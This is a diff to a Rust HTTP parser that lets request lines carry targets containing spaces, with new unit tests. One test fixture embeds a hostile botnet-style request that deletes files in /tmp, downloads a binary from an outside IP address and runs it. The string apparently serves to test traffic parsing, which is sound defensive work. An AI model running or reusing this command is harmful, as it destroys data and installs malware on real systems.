@@ -188,14 +188,42 @@ pub(crate) fn scan_request_line(buf: &[u8], known_only: bool) -> Scan<ReqLine> {
             match version1(&buf[v0..]) {
                 Scan::Yes(n) => match eol_len(&buf[v0 + n..]) {
                     Scan::Yes(e) => Scan::Yes(ReqLine::Http1 { len: v0 + n + e }),
-                    Scan::No => Scan::No,
+                    Scan::No => spaced_target_line(buf, t0),
                     Scan::NeedMore => Scan::NeedMore,
                 },
-                Scan::No => Scan::No,
+                Scan::No => spaced_target_line(buf, t0),
                 Scan::NeedMore => Scan::NeedMore,
             }
         }
         _ => Scan::No,
+    }
+}
+
+/// A request line whose target contains spaces (`GET /a?x=1 2 HTTP/1.1`, as sent by
+/// exploit scripts): the version is what follows the last space. Strict parsers reject it;
+/// lenient servers take the middle as the target, and so does the lenient fallback.
+fn spaced_target_line(buf: &[u8], t0: usize) -> Scan<ReqLine> {
+    let body = buf[t0..]
+        .iter()
+        .take_while(|b| is_target_byte(**b) || **b == b' ')
+        .count();
+    let end = t0 + body;
+    if end == buf.len() {
+        return Scan::NeedMore;
+    }
+    let e = match eol_len(&buf[end..]) {
+        Scan::Yes(e) => e,
+        Scan::No => return Scan::No,
+        Scan::NeedMore => return Scan::NeedMore,
+    };
+    let line = &buf[t0..end];
+    let ok = line.len() > 9
+        && (line.ends_with(b" HTTP/1.1") || line.ends_with(b" HTTP/1.0"))
+        && line[..line.len() - 9].iter().any(|b| *b != b' ');
+    if ok {
+        Scan::Yes(ReqLine::Http1 { len: end + e })
+    } else {
+        Scan::No
     }
 }
 
@@ -518,17 +546,29 @@ fn lenient_headers(lines: &mut Lines<'_>, max_headers: usize) -> Result<Vec<Head
 fn lenient_request(buf: &[u8], max_headers: usize) -> Result<ReqHead, HeadError> {
     let mut lines = Lines(buf);
     let line = lines.next().ok_or(HeadError::Unparseable)?;
-    let mut parts = line.split(|b| *b == b' ');
-    let (Some(method), Some(target), Some(version), None) =
-        (parts.next(), parts.next(), parts.next(), parts.next())
-    else {
+    // Method up to the first space, version after the last: the target may hold spaces.
+    let (Some(sp1), Some(sp2)) = (
+        line.iter().position(|b| *b == b' '),
+        line.iter().rposition(|b| *b == b' '),
+    ) else {
         return Err(HeadError::Unparseable);
     };
+    if sp1 >= sp2 {
+        return Err(HeadError::Unparseable);
+    }
+    let (method, version) = (&line[..sp1], &line[sp2 + 1..]);
+    let mut target = &line[sp1 + 1..sp2];
+    while let [b' ', rest @ ..] = target {
+        target = rest;
+    }
+    while let [rest @ .., b' '] = target {
+        target = rest;
+    }
     if method.is_empty()
         || method.len() > MAX_METHOD
         || !method.iter().all(|b| is_tchar(*b))
         || target.is_empty()
-        || !target.iter().all(|b| is_target_byte(*b))
+        || !target.iter().all(|b| is_target_byte(*b) || *b == b' ')
     {
         return Err(HeadError::Unparseable);
     }
@@ -804,6 +844,21 @@ mod tests {
                 target_end: 14
             })
         );
+        let exploit: &[u8] =
+            b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\nUser";
+        assert_eq!(
+            scan_request_line(exploit, true),
+            Scan::Yes(ReqLine::Http1 {
+                len: exploit.len() - 4
+            })
+        );
+        assert_eq!(scan_request_line(b"GET /a b HT", true), Scan::NeedMore);
+        assert_eq!(scan_request_line(b"GET /a b\r\n", false), Scan::No);
+        assert_eq!(
+            scan_request_line(b"GET /a b HTTP/1.1 x\r\n", false),
+            Scan::No
+        );
+        assert_eq!(scan_request_line(b"GET   HTTP/1.1\r\n", false), Scan::No);
         // Redis-style inline command: not HTTP/0.9.
         assert_eq!(scan_request_line(b"GET key\r\n", false), Scan::No);
         assert_eq!(scan_request_line(b"FOO /x\r\n", false), Scan::No);
@@ -957,6 +1012,13 @@ mod tests {
         assert!(lenient);
         assert_eq!(h.target, "/\u{fffd}");
         assert_eq!(h.headers[0].value, b"b c");
+        let (h, lenient) =
+            parse_request_head(b"GET /a?x=1 2  HTTP/1.0\r\nHost: h\r\n\r\n", 8).unwrap();
+        assert!(lenient);
+        assert_eq!(
+            (h.target.as_str(), h.version),
+            ("/a?x=1 2", Version::Http10)
+        );
         assert_eq!(
             parse_request_head(b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", 8).unwrap_err(),
             HeadError::Unparseable
